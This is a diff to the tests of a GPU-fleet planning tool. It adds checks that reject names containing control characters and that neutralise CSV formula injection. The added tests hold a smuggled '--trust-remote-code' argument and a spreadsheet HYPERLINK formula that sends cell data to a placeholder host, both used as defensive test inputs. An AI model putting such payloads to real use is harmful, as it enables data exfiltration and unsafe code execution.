@@ -198,6 +198,9 @@ def test_a_measured_run_has_a_domain(tmp_path, cells, expected):
     ({"pools.utilization": 5.0}, "pools[0].utilization: Input should be less than or equal to 1"),
     ({"pools.tpot_s": 0}, "pools[0].tpot_s: Input should be greater than 0"),
     ({"pools.instances": 10**12}, "pools[0].instances: Input should be less than or equal to 1000000"),
+    ({"model": "m\n--trust-remote-code"}, "model: a name is one line of printable text; it holds the control "
+                                           "character '\\n'"),
+    ({"problem": "p\rq"}, "problem: a name is one line of printable text"),
 ])
 def test_a_hand_edited_plan_file_has_a_domain(tmp_path, edit, expected):
     """simulate and export read a plan file: a version or status plan never writes, a pool busier
@@ -389,3 +392,21 @@ def test_period_of_a_plan_without_periods_is_refused(monkeypatch):
     monkeypatch.chdir(ROOT)
     code, out = run("simulate", "tests/golden/solve/fleet_mix.json", "--period", "3")
     assert code == 2 and "is not a plan over a load profile; it has no periods to pick" in out, out
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path):
+    """A scenario named `=HYPERLINK(…)` (or `+…`, `-…`, `@…`) would be evaluated as a formula when
+    whatif's CSV is opened in a spreadsheet: the cell is written with a leading apostrophe, the
+    JSON keeps the name as written, and numbers (a negative delta) stay numbers."""
+    import csv
+    import io
+    base = write(tmp_path, SMALL)
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+    sc = write(tmp_path, {"name": evil, "gpus": {"update": {"h100": {"price_change_percent": -20}}}}, "s.yaml")
+    out = tmp_path / "w.csv"
+    r = CliRunner().invoke(cli.main, ["whatif", str(base), str(sc), "--csv", str(out), "--json"])
+    assert r.exit_code == 0, r.output
+    assert [s["scenario"] for s in json.loads(r.stdout)["scenarios"]][1] == evil
+    rows = list(csv.DictReader(io.StringIO(out.read_text())))
+    assert rows[1]["scenario"] == "'" + evil
+    assert float(rows[1]["delta_cost_per_hour"]) < 0 and not rows[1]["delta_cost_per_hour"].startswith("'")
